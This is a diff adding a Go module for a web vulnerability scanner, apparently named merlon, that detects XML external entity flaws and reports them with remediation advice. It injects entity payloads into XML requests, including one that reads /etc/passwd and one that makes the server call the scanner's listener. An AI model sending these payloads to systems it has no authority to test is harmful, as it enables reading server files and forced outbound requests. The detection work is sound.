@@ -1,0 +1,136 @@
+// Package xxe finds parsers of XML that follow the entities of a document's own type
+// definition. Entities that only hold text come first; a file of the system is read
+// only where those are expanded; a listener of ours is called where there is one.
+package xxe
+
+import (
+	"html"
+	"regexp"
+	"strings"
+	"time"
+
+	"merlon/internal/engine/dast/attack"
+	"merlon/internal/engine/dast/message"
+	"merlon/internal/finding"
+	"merlon/internal/scan"
+)
+
+func newRule(id, name, short, cwe string, severity finding.Severity) *finding.Rule {
+	return &finding.Rule{ID: "dast/xxe/" + id, Analysis: finding.DAST, Name: name, ShortDescription: short,
+		Description: "The application parses XML with a parser that reads the document's own type definition and expands the entities that it declares. Whoever sends the document reads files of the server, " +
+			"makes it send requests to other systems, or uses up its memory with entities that hold each other.",
+		HowToPrevent: "Switch document type definitions off in the parser (`disallow-doctype-decl`, `DtdProcessing.Prohibit`, `defusedxml`); where they are needed, switch external entities and their expansion off.",
+		CWE:          []string{cwe}, OWASP: []string{"A05:2021"}, Severity: severity, Confidence: finding.Certain}
+}
+
+var (
+	external = newRule("external", "XML external entities", "The parser of a body in XML reads external entities.", "CWE-611", finding.High)
+	internal = newRule("internal", "XML entities are expanded", "The parser of a body in XML expands entities of the document.", "CWE-776", finding.Low)
+)
+
+// Check is the check.
+var Check = &attack.Check{ID: "xxe", Rules: []*finding.Rule{external, internal}, Profile: scan.Safe, Request: request}
+
+// maxPoints bounds the elements that are tried.
+const maxPoints = 5
+
+var passwd = regexp.MustCompile(`root:[^:\n]{0,100}:0:0:`)
+
+func request(t *attack.Trial) error {
+	if t.Request.Body.Kind != message.XML {
+		return nil
+	}
+	tried := 0
+	for _, at := range t.Request.Points() {
+		if at.In != message.InXML || strings.Contains(at.Name, "@") {
+			continue
+		}
+		if tried++; tried > maxPoints {
+			break
+		}
+		if found, err := point(t, at); found || err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// document returns the request with declarations of entities, and a text of entities in
+// the place of the element's.
+func document(t *attack.Trial, at message.Point, entities, text string) *message.Request {
+	mark := t.Random(12)
+	r := t.Request.With(at, mark)
+	body := strings.Replace(string(r.Body.Text), mark, text, 1)
+	declaration := ""
+	if end := strings.Index(body, "?>"); strings.HasPrefix(strings.TrimSpace(body), "<?xml") && end > 0 {
+		declaration, body = body[:end+2], body[end+2:]
+	}
+	root := strings.Split(at.Name, "/")[0]
+	r.Body.Text = []byte(declaration + "<!DOCTYPE " + root + " [" + entities + "]>" + body)
+	return r
+}
+
+func point(t *attack.Trial, at message.Point) (found bool, err error) {
+	one, two := t.Random(8), t.Random(8)
+	r := document(t, at, `<!ENTITY a "`+one+`"><!ENTITY b "`+two+`">`, "&a;&b;")
+	resp, err := t.Send(r)
+	if err != nil {
+		return false, err
+	}
+	expanded := strings.Contains(resp.Text(), one+two)
+	flaw := attack.Flaw{Rule: internal, Point: &at, Request: r, Payload: "&a;&b;", Answers: []*message.Response{resp}, Notes: []string{"two entities of the document"}}
+	if expanded {
+		flaw.Proof = []string{"Two entities stand beside each other in the document; the answer holds what they stand for, joined."}
+	}
+	if called, err := call(t, at, &flaw); called || err != nil {
+		return called, err
+	}
+	if !expanded {
+		return false, nil
+	}
+	if t.Target.Profile.Allows(scan.Standard) {
+		r := document(t, at, `<!ENTITY f SYSTEM "file:///etc/passwd">`, "&f;")
+		resp, err := t.Send(r)
+		if err != nil {
+			return false, err
+		}
+		if passwd.MatchString(html.UnescapeString(resp.Text())) {
+			flaw.Rule, flaw.Request, flaw.Payload = external, r, `<!ENTITY f SYSTEM "file:///etc/passwd">`
+			flaw.Answers, flaw.Notes = append(flaw.Answers, resp), append(flaw.Notes, "an entity that is a file of the system")
+			flaw.Proof = append(flaw.Proof, "An entity that is the file /etc/passwd is answered with its content.")
+		}
+	}
+	t.Flaw(flaw)
+	return true, nil
+}
+
+// arrival is how long a call may take to arrive.
+const arrival = 500 * time.Millisecond
+
+// call makes the parser ask our listener.
+func call(t *attack.Trial, at message.Point, flaw *attack.Flaw) (bool, error) {
+	if t.Callback == nil {
+		return false, nil
+	}
+	token := t.Random(16)
+	address, _ := t.Callback.Address(token)
+	r := document(t, at, `<!ENTITY c SYSTEM "`+address+`">`, "&c;")
+	resp, err := t.Send(r)
+	if err != nil {
+		return false, err
+	}
+	select {
+	case <-time.After(arrival):
+	case <-t.Context.Done():
+		return false, t.Context.Err()
+	}
+	calls := t.Callback.Calls(token)
+	if len(calls) == 0 {
+		return false, nil
+	}
+	flaw.Rule, flaw.Request, flaw.Payload = external, r, `<!ENTITY c SYSTEM "`+address+`">`
+	flaw.Answers, flaw.Notes = append(flaw.Answers, resp), append(flaw.Notes, "an entity at a listener")
+	flaw.Proof = append(flaw.Proof, "The parser asked for "+address+", an address made for this one document ("+calls[0].Protocol+" from "+calls[0].From+").")
+	t.Flaw(*flaw)
+	return true, nil
+}
